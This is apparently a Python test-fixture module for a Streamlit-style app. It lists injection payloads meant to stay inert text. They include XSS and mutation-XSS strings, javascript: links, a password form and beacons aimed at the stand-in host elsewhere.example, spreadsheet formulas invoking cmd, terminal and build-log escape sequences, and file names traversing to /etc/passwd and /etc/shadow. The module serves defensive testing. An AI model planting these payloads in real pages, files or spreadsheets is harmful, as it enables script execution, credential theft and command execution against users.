"""Words that are scripts, mark-up or orders to something: every class of them, each to stay words wherever it is shown."""

from __future__ import annotations

from collections.abc import Iterator

OUT = "https://elsewhere.example"
"""Stands for another origin; nothing may ask it for anything."""

IN_HTML = {
    "script": "<script>window.ran=1</script>",
    "script split by a comment": "<scr<!-- -->ipt>window.ran=1</scr<!-- -->ipt>",
    "script in another case": "<ScRiPt >window.ran=1</sCrIpT\n>",
    "script without an end": "<script>window.ran=1",
    "script from elsewhere": f"<script src={OUT}/a.js></script>",
    "image with a handler": "<img src=x onerror=window.ran=1>",
    "handler without spaces": "<svg/onload=window.ran=1>",
    "handler after a slash and a line": "<img/src=x\n/onerror\n=\nwindow.ran=1>",
    "focus without a click": "<input autofocus onfocus=window.ran=1>",
    "details that open": "<details open ontoggle=window.ran=1><summary>x</summary></details>",
    "animation": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "use of a drawing": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a/></svg>#x\"/></svg>",
    "address that is a script": '<a href="javascript:window.ran=1">click</a>',
    "script address with a tab": '<a href="java\tscript:window.ran=1">click</a>',
    "script address by references": '<a href="&#106;avascript&colon;window.ran=1">click</a>',
    "script address with a control": '<a href="\x01javascript:window.ran=1">click</a>',
    "address that is a page": '<a href="data:text/html,<script>window.ran=1</script>">click</a>',
    "base": f'<base href="{OUT}/">',
    "refresh": f'<meta http-equiv=refresh content="0;url={OUT}/">',
    "frame": f'<iframe src="{OUT}/f" srcdoc="<script>window.ran=1</script>"></iframe>',
    "object and embed": f'<object data="{OUT}/o"></object><embed src="{OUT}/e">',
    "style": f"<style>body{{display:none;background:url({OUT}/s)}}@import '{OUT}/i';</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({OUT}/s)">over all</p>',
    "sheet": f'<link rel=stylesheet href="{OUT}/l.css"><link rel=prefetch href="{OUT}/p">',
    "form": f'<form action="{OUT}/"><input name=password type=password><button>Sign in</button></form>',
    "beacon": f'<img src="{OUT}/p.png" srcset="{OUT}/q.png 2x"><video poster="{OUT}/v.png"></video>',
    "template": "<template><script>window.ran=1</script></template>",
    "portal of a name": "<img name=getElementById><form id=body><input name=attributes></form>",
    "closing of what it may stand in": "</textarea></title></style></script></noscript></xmp>--><img src=x onerror=window.ran=1>",
    "closing of an attribute": "\"' autofocus onfocus=window.ran=1 x=\"'",
    "half a tag": "<img src=x onerror=window.ran=1 //",
    "references": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
}
"""Mark-up that runs, loads, covers or sends something."""

MUTATING = {
    "in a namespace": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "form in a form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.ran=1 src>'>",
    "select": '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
    "back quotes": "<img src=x alt='``onerror=window.ran=1'>",
    "listing": '<listing>&lt;img src=1 onerror=window.ran=1&gt;</listing><xmp><p title="</xmp><img src=x onerror=window.ran=1>"></xmp>',
    "annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.ran=1></style></annotation-xml></math>',
    "CDATA": "<svg><![CDATA[><img src=x onerror=window.ran=1>]]></svg>",
    "a comment's end": "<!--><img src=x onerror=window.ran=1>--!><img src=x onerror=window.ran=1>",
    "half a sign": "<img \ud800 src=x onerror=window.ran=1>",
}
"""Mark-up that turns into something else when it is written out and read again."""

IN_MARKDOWN = {
    "script address": "[click](javascript:window.ran=1) [more](<javascript:window.ran=1>)",
    "image from elsewhere": f'![a chart]({OUT}/p.png "title") ![][x]\n\n[x]: {OUT}/q.png',
    "automatic address": f"<javascript:window.ran=1> {OUT}/auto",
    "colour directive": ":red[red] :blue-background[blue] :small[small] :color[x]{foreground='red'}",
    "icon directive": ":material/home: :streamlit: :shortcode: :smile:",
    "badge": ":red-badge[now] :badge[x]",
    "formula": "$5 and $10, $$\\href{javascript:window.ran=1}{x}$$ $\\require{html}\\style{x}{y}$",
    "raw mark-up": "<b onclick=window.ran=1>bold</b> <script>window.ran=1</script>",
    "arrows and dashes": "-> <- -- --- ... (c) **bold** _it_ `code` ~~gone~~ # no heading",
    "footnote and table": "a[^1] | b\n--|--\n\n[^1]: <img src=x onerror=window.ran=1>",
}
"""Markdown, and what Streamlit makes of Markdown."""

IN_A_CELL = {
    "equals": '=HYPERLINK("https://elsewhere.example";"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "NUL": "\x00=1+1",
    "full-width sign": "＝1+1",
    "behind a quotation mark": '"=1+1',
    "behind a space": "  =1+1",
}
"""Cells that a table program would reckon."""

IN_A_LINE = {
    "colours": "\x1b[31mred\x1b[0m",
    "the title of a window": "\x1b]0;owned\x07",
    "a link of a terminal": "\x1b]8;;https://elsewhere.example\x1b\\click\x1b]8;;\x1b\\",
    "single-sign controls": "\x9b31m \x85 \x90",
    "an order to a build log": "\n::error file=a::no\n##[error]no\n##vso[task.setvariable variable=a]b",
    "the other direction": "user\u202etxt.exe \u2066 isolated \u2069",
    "width nothing": "in\u200bvis\u200dible\ufeff \u00ad",
    "tag signs": "\U000e0041\U000e0042",
    "backspaces": "good\b\b\b\bevil",
}
"""Lines that steer a terminal, a log or a reader's eye."""

NAMES = {
    "up and away": "../../../../etc/passwd",
    "with backslashes": "..\\..\\windows\\win.ini",
    "from the root": "/etc/shadow",
    "a NUL": "a.md\x00.pdf",
    "a device": "CON.md",
    "a stream": "a.md::$DATA",
    "an option": "--help.md",
    "a script": "<img src=x onerror=window.ran=1>.md",
    "the other direction": "evil\u202efdp.md",
    "very long": "a" * 4_000 + ".md",
    "lines": "a\r\nSet-Cookie: x=1\r\n.md",
    "half a sign": "\ud800.md",
    "nothing": "",
    "dots": "...",
}
"""Names of files."""


def everywhere() -> Iterator[tuple[str, str, str]]:
    """Class, case and words of all but the names."""
    for title, cases in (
        ("Mark-up that runs", IN_HTML),
        ("Mark-up that mutates", MUTATING),
        ("Markdown and its directives", IN_MARKDOWN),
        ("Formula cells", IN_A_CELL),
        ("Lines that steer", IN_A_LINE),
    ):
        for case, words in cases.items():
            yield title, case, words
